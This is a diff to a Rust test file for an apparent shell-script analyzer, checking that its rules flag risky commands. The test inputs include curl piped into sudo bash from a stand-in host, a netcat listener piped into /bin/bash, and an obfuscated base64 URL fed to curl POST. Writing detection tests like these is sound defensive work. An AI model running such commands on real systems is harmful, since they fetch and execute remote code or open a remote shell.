@@ -116,6 +116,19 @@ fn a_flow_is_reported_where_its_pipeline_starts() {
     let text = "x=1\ncurl -s \\\n  https://t.example/i \\\n  | sudo -E bash\n";
     let mut out = Vec::new();
     analyze(text, &mut out);
-    let starts: Vec<usize> = out.iter().filter(|h| h.rule.id == "SUP020").map(|h| h.start).collect();
+    let starts: Vec<usize> = out
+        .iter()
+        .filter(|h| h.rule.id == "SUP020")
+        .map(|h| h.start)
+        .collect();
     assert_eq!(starts, vec![4]);
+}
+
+#[test]
+fn a_socket_piped_into_a_shell() {
+    assert_eq!(rules("nc -l -p 4443 | /bin/bash"), vec!["NET020"]);
+    assert_eq!(
+        rules("echo aHR0cHM6Ly90LmV4YW1wbGU= | base64 -d | xargs curl -X POST"),
+        vec!["OBF021"]
+    );
 }
